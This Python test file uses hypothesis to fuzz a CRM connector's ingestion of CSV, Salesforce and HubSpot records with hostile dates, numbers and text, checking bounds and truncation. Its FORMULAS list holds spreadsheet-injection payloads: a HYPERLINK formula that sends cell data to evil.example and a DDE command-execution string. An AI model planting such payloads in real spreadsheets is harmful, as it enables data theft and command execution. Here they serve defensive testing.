"""The boundary over hostile values (hypothesis; issue 22): dates, numbers and text of any
length and content, for every entity and each source type — CSV exports read from
files, Salesforce records (REST JSON through the stream's reader) and HubSpot records
(through `build_rows`) — keep the store's promise:

- typing never fails: every staged row is loaded or quarantined, none lost;
- nothing loaded is outside the bounds: dates inside the window, numbers finite and
  within MAX_AMOUNT, text within MAX_TEXT characters;
- text cut short says so in a finding; quarantine and findings keep values short.

Examples are bounded (a few per entity and source) so that the suite stays fast.
"""

from __future__ import annotations

import csv
import datetime as dt
import math
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connector.crms.hubspot.mapping import load_mapping as hubspot_mapping
from connector.crms.hubspot.records import StageMeta, raw_fields, raw_rows
from connector.crms.hubspot.records import derivation as derivation_of
from connector.crms.salesforce.mapping import load_mapping as salesforce_mapping
from connector.crms.salesforce.records import compile_reader, derivation
from connector.crms.salesforce.validate import Resolved
from connector.resources import shipped
from connector.schema import ENTITIES, MAX_AMOUNT, MAX_TEXT, DateWindow, Entity, is_reference
from connector.store import IngestResult, ParseOptions, Store, ingest_rows
from connector.store.csvfile import CsvLayout, load_csv
from connector.store.derive import Derivation, derive
from connector.store.raw import raw_stream, upsert_raw

WINDOW = DateWindow(dt.date(1970, 1, 1), dt.date(2035, 12, 31))
OPTS = ParseOptions("America/New_York", window=WINDOW)
SALESFORCE = salesforce_mapping(shipped("mappings/salesforce.yaml"))
HUBSPOT = hubspot_mapping(shipped("mappings/hubspot.yaml"))
EXAMPLES = settings(max_examples=4, deadline=None, derandomize=True,
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow])  # fmt: skip

FAR_DATES = ["9999-12-31", "0001-01-01", "9000-01-01", "294247-01-10", "infinity",
             "-infinity", "epoch", "-2024-01-01", "2024-02-30", "31/02/2025",
             "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2025-03-01T10:00:00Z",
             "2025-03-01", "290309-12-22 (BC) 00:00:00", "1969-12-31T23:00:00Z"]  # fmt: skip
ODD_NUMBERS = ["NaN", "nan", "-nan", "Infinity", "-Infinity", "inf", "+INF", "1e308", "1e400",
               "-1e16", "1e15", "0x10", "1_000", "  5 ", "abc", "", "-0", "4.9e-324"]  # fmt: skip
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(A1)",
            "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1"]  # fmt: skip

dates = st.one_of(
    st.sampled_from(FAR_DATES),
    st.dates(dt.date(1, 1, 1), dt.date(9999, 12, 31)).map(dt.date.isoformat),
    st.datetimes(dt.datetime(1, 1, 2), dt.datetime(9999, 12, 30)).map(
        lambda moment: moment.isoformat() + "Z"
    ),
    st.text(max_size=12),
)
numbers = st.one_of(
    st.sampled_from(ODD_NUMBERS),
    st.floats().map(repr),
    st.integers(-(10**20), 10**20).map(str),
    st.text(max_size=8),
)
texts = st.one_of(
    st.text(max_size=30),
    st.builds(lambda unit, times: unit * times, st.text(min_size=1, max_size=3),
              st.integers(86, 1200)),
    st.sampled_from(FORMULAS),
)
booleans = st.one_of(st.sampled_from(["true", "false", "1", "0", "yes", "n", ""]), texts)


def value_of(field_type: str, crm: bool) -> st.SearchStrategy[Any]:
    """What a source may send for a field: text as exports have it; a CRM's JSON also
    has numbers (NaN and infinities included), booleans and nulls."""
    base: st.SearchStrategy[Any] = {
        "date": dates, "timestamp": dates, "float": numbers, "int": numbers, "bool": booleans,
    }.get(field_type, texts)  # fmt: skip
    if crm and field_type in ("float", "int"):
        base = st.one_of(base, st.floats(), st.integers(-(10**20), 10**20))
    if crm and field_type == "bool":
        base = st.one_of(base, st.booleans())
    return st.one_of(st.none(), base) if crm else base


def records(entity: Entity, crm: bool) -> st.SearchStrategy[list[dict[str, Any]]]:
    """1 to 4 records of `entity`: every field a source fills, ids mostly plain."""
    ids = st.one_of(st.integers(0, 5).map(lambda n: f"r{n}"), texts)
    fields = {name: value_of(kind, crm) for name, kind in entity.field_types.items()
              if name in entity.data_fields and name != "id"}  # fmt: skip
    return st.lists(st.fixed_dictionaries({"id": ids, **fields}), min_size=1, max_size=4)


# --- the three source types ----------------------------------------------------------


def from_csv(store: Store, entity: Entity, rows: list[dict[str, Any]], folder: Path) -> int:
    path = folder / entity.file
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(rows[0])
        writer.writerows([[row[name] for name in rows[0]] for row in rows])
    result = load_csv(store, source="t", entity=entity, path=path, layout=CsvLayout(),
                      opts=OPTS)  # fmt: skip
    check_counts(result, len(rows))
    return len(rows)


def from_salesforce(store: Store, entity: Entity, rows: list[dict[str, Any]]) -> int:
    streams = [s for s in SALESFORCE.streams if s.entity == entity.name]
    if not streams:  # quotas: rows as targets.py stages them
        return staged(store, entity, rows)
    stream = streams[0]
    prefixes = {"Lead": "00Q", "Opportunity": "006", "Account": "001"}
    resolved = Resolved(paths={(stream.object, p): p for p in stream.crm_fields()},
                        prefixes=prefixes)
    reader = compile_reader(stream, resolved, flat=False)
    answers = []
    for row in rows:
        record: dict[str, Any] = {stream.key: row["id"], stream.cursor: row.get("modified_at")}
        for name in stream.fields:
            spec = stream.spec(name)
            if spec.field is not None:
                nest(record, spec.field.split("."), row.get(name))
        answers.append(record)
    rows_sent, _ = reader.split([a for a in answers if a[stream.key] is not None])
    return derived(store, stream.key, stream.cursor, entity, reader.fields, rows_sent,
                   derivation(stream, SALESFORCE, resolved))  # fmt: skip


def derived(store: Store, key: str, cursor: str, entity: Entity, fields: list[str],
            rows: list[list[Any]], rules: Derivation) -> int:  # fmt: skip
    """Raw rows kept, then derived as a pull derives them: each kept row is loaded,
    quarantined or left out by the mapping."""
    raw = raw_stream(store, source="t", stream=entity.name, entity=entity.name, key=key,
                     cursor=cursor, fields=fields)  # fmt: skip
    upsert_raw(store, raw, fields, rows)
    result = derive(store, raw, rules, OPTS)
    kept = int(store.scalar(f"SELECT count(*) FROM {raw.table}") or 0)
    assert result.loaded + result.quarantined + result.excluded == kept, (result, kept)
    return result.loaded + result.quarantined


def nest(record: dict[str, Any], path: list[str], value: Any) -> None:
    for part in path[:-1]:
        record = record.setdefault(part, {})
    record[path[-1]] = value


def from_hubspot(store: Store, entity: Entity, rows: list[dict[str, Any]]) -> int:
    streams = [s for s in HUBSPOT.streams if s.entity == entity.name]
    if not streams:  # owners API, goals, tables: rows as extras.py and targets.py stage them
        return staged(store, entity, rows)
    stream = streams[0]
    answers = [{"id": row["id"], "properties": {prop: row.get(name)
                for name, prop in stream.fields.items()}} for row in rows]  # fmt: skip
    answers = [a for a in answers if a["id"] is not None]
    links = {to: {str(row["id"]): [str(row.get(name))] for row in rows if row.get(name)}
             for name, to in stream.associations.items()}  # fmt: skip
    return derived(store, "hs_object_id", stream.cursor, entity, raw_fields(stream),
                   raw_rows(stream, answers, links),
                   derivation_of(stream, StageMeta(), HUBSPOT.value_maps))


def staged(store: Store, entity: Entity, rows: list[dict[str, Any]]) -> int:
    names = list(rows[0])
    result = ingest_rows(store, source="t", entity=entity, columns=names,
                         rows=[[row[name] for name in names] for row in rows], origin="CRM",
                         opts=OPTS)  # fmt: skip
    check_counts(result, len(rows))
    return len(rows)


# --- the promise ----------------------------------------------------------------------


def check_counts(result: IngestResult, rows: int) -> None:
    """Every staged row loaded or quarantined."""
    assert result.loaded + result.quarantined == rows, (result, rows)


def check_bounds(store: Store, entity: Entity) -> None:
    """Nothing loaded outside the bounds; quarantine and findings short."""
    for row in store.fetch_dicts(f"SELECT * FROM {entity.table}"):
        for name, kind in entity.field_types.items():
            value = row[name]
            if value is None:
                continue
            if kind in ("date", "timestamp"):
                assert isinstance(value, dt.date), (name, value)
                assert value in WINDOW, (name, value)
            elif kind == "float":
                assert math.isfinite(value), (name, value)
                assert abs(value) <= MAX_AMOUNT, (name, value)
            elif kind == "str":
                assert len(value) <= MAX_TEXT, (name, len(value))
    for table in ("quarantine", "findings"):
        for record_id, value in store.fetch(f"SELECT record_id, value FROM {table}"):
            for text in (record_id, value):
                assert text is None or len(text) <= MAX_TEXT + 40, (table, len(text))


def check_cut(store: Store, entity: Entity, rows: list[dict[str, Any]]) -> None:
    """Text longer than a field keeps was cut to its first MAX_TEXT characters, and a
    finding says so (exports: no value map stands between the file and the field)."""
    kept = {r["id"]: r for r in store.fetch_dicts(f"SELECT * FROM {entity.table}")}
    found = set(store.fetch("SELECT record_id, field FROM findings"))
    last = {str(row["id"]).strip(" "): row for row in rows}  # a repeated id: the last line wins
    for key, row in last.items():
        if key not in kept:
            continue
        for name, kind in entity.field_types.items():
            given = str(row.get(name) or "").strip(" ")  # TRIM: spaces only
            if kind != "str" or is_reference(name) or len(given) <= MAX_TEXT:
                continue
            if name in ("method", "contact_method", "currency"):
                continue  # mapped onto a method; upper-cased and ruled
            assert kept[key][name] == given[:MAX_TEXT], (name, kept[key][name])
            assert (key, name) in found


ALL = [pytest.param(e, id=e.name) for e in ENTITIES]


@pytest.mark.parametrize("entity", ALL)
@EXAMPLES
@given(data=st.data())
def test_csv_exports(entity: Entity, data: st.DataObject, tmp_path_factory: Any) -> None:
    rows = data.draw(records(entity, crm=False))
    with Store(":memory:") as store:
        from_csv(store, entity, rows, tmp_path_factory.mktemp("exports"))
        check_bounds(store, entity)
        check_cut(store, entity, rows)


CRMS = [pytest.param(from_salesforce, id="salesforce"), pytest.param(from_hubspot, id="hubspot")]


@pytest.mark.parametrize("entity", ALL)
@pytest.mark.parametrize("load", CRMS)
@EXAMPLES
@given(data=st.data())
def test_crm_records(entity: Entity, load: Any, data: st.DataObject) -> None:
    rows = data.draw(records(entity, crm=True))
    with Store(":memory:") as store:
        load(store, entity, rows)
        check_bounds(store, entity)
